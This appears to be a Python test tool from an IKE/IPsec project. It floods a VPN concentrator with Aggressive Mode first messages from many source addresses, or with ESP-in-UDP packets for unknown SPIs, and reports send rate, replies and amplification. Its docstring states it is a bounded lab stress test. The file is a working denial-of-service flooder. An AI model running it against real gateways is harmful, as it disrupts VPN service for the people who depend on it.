"""A phase 1 flood from one process: valid-looking Aggressive Mode first messages (the right group name, a real
offer, a fresh initiator cookie each) from many source addresses and ports, as fast as one process sends them.
To UDP 4500 they go behind the non-ESP marker, as IKE does there; `--kind esp` sends ESP-in-UDP for SPIs nobody has
(random, a new one each packet, 4500 only) instead.

Lab use only (issue: hold under attack and faults). Bounded by --seconds and --max-packets; stops by itself.
Run it in the lab's pubclient namespace after adding the source addresses to its interface
(`tests/lab/test_flood.py` does both). Prints one JSON object: packets and bytes sent, replies and their bytes
(the amplification a spoofed victim would see), the achieved rate.

The template is the first message of natt's own initiator (tests build attackers from the protocol core); only
the initiator cookie changes from one packet to the next, so the concentrator sees a new negotiation each time.
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import sys
import time

from natt.ike.config import ClientProfile
from natt.ike.endpoint import IkeEndpoint
from natt.wire.constants import NON_ESP_MARKER

DRAIN_EVERY = 512  # sends between reads of the replies (an attacker that spoofs never reads them; we count them)


def first_message(peer: str, local: str, group: str) -> bytes:
    """natt's initiator's Aggressive Mode message 1 towards `peer` (the template of every flood packet)."""
    ep = IkeEndpoint(local)
    profile = ClientProfile(peer=peer, group=group, psk=b"not-the-key", username="flood", password="x",
                            force_natt=True, remote_networks=("0.0.0.0/0",))
    ep.connect(profile, time.monotonic())
    out = ep.datagrams_to_send()
    if not out:
        raise RuntimeError("the initiator sent nothing")
    return out[0].data


def _drain(s: socket.socket) -> tuple[int, int]:
    """Read what waits on `s` (the concentrator's answers): how many datagrams, how many bytes."""
    count = size = 0
    while True:
        try:
            data = s.recv(65535)
        except (BlockingIOError, OSError):
            return count, size
        count += 1
        size += len(data)


ESP_JUNK_BYTES = 120  # SPI, sequence number and a body the size of a small data packet


def run(peer: str, port: int, sources: list[str], ports_per_source: int, group: str, seconds: float,
        max_packets: int, rate: float, kind: str = "ike") -> dict[str, object]:
    if kind == "esp":
        template, vary = bytearray(os.urandom(ESP_JUNK_BYTES)), slice(0, 4)  # a new SPI each (never 0: the marker)
    elif port == 500:
        template, vary = bytearray(first_message(peer, sources[0], group)), slice(0, 8)  # the initiator cookie
    else:
        template, vary = bytearray(NON_ESP_MARKER + first_message(peer, sources[0], group)), slice(4, 12)
    socks: list[socket.socket] = []
    for src in sources:
        for _ in range(ports_per_source):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((src, 0))
            s.setblocking(False)
            socks.append(s)
    sent = sent_bytes = replies = reply_bytes = errors = 0
    t0 = time.monotonic()
    deadline = t0 + seconds
    interval = 1.0 / rate if rate > 0 else 0.0
    n = len(socks)
    try:
        while sent < max_packets:
            now = time.monotonic()
            if now >= deadline:
                break
            if interval and sent * interval > now - t0:
                time.sleep(min(0.001, sent * interval - (now - t0)))
                continue
            for _ in range(64):
                template[vary] = os.urandom(vary.stop - vary.start)
                if kind == "esp" and not any(template[0:4]):
                    template[0] = 1
                try:
                    socks[sent % n].sendto(template, (peer, port))
                    sent_bytes += len(template)
                except (BlockingIOError, OSError):
                    errors += 1
                sent += 1
                if sent % DRAIN_EVERY == 0:
                    for s in socks[(sent // DRAIN_EVERY) % n::max(1, n // 16)]:
                        got, size = _drain(s)
                        replies, reply_bytes = replies + got, reply_bytes + size
                if interval or sent >= max_packets:
                    break
    finally:
        elapsed = time.monotonic() - t0
        for s in socks:
            got, size = _drain(s)
            replies, reply_bytes = replies + got, reply_bytes + size
            s.close()
    return {"sent": sent, "sent_bytes": sent_bytes, "send_errors": errors, "replies": replies,
            "reply_bytes": reply_bytes, "seconds": round(elapsed, 2), "rate": round(sent / max(elapsed, 1e-9)),
            "sources": len(sources), "sockets": n, "packet_bytes": len(template), "kind": kind, "port": port}


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description="phase 1 first-message flood (lab use only; bounded)")
    p.add_argument("--peer", required=True)
    p.add_argument("--port", type=int, default=500)
    p.add_argument("--source", action="append", required=True, help="a local address to send from (repeat)")
    p.add_argument("--ports-per-source", type=int, default=2)
    p.add_argument("--group", default="ciscovpn")
    p.add_argument("--seconds", type=float, default=30.0)
    p.add_argument("--max-packets", type=int, default=20_000_000)
    p.add_argument("--rate", type=float, default=0.0, help="packets per second; 0 = as fast as possible")
    p.add_argument("--kind", choices=("ike", "esp"), default="ike",
                   help="ike: Aggressive Mode first messages; esp: ESP for unknown SPIs (to 4500 only)")
    a = p.parse_args(argv)
    if not 0 < a.seconds <= 600:
        p.error("--seconds must be in (0, 600]")
    if a.kind == "esp" and a.port == 500:
        p.error("--kind esp goes to UDP 4500 (ESP-in-UDP)")
    result = run(a.peer, a.port, a.source, a.ports_per_source, a.group, a.seconds, a.max_packets, a.rate, a.kind)
    json.dump(result, sys.stdout)
    print()
    return 0


if __name__ == "__main__":
    sys.exit(main())
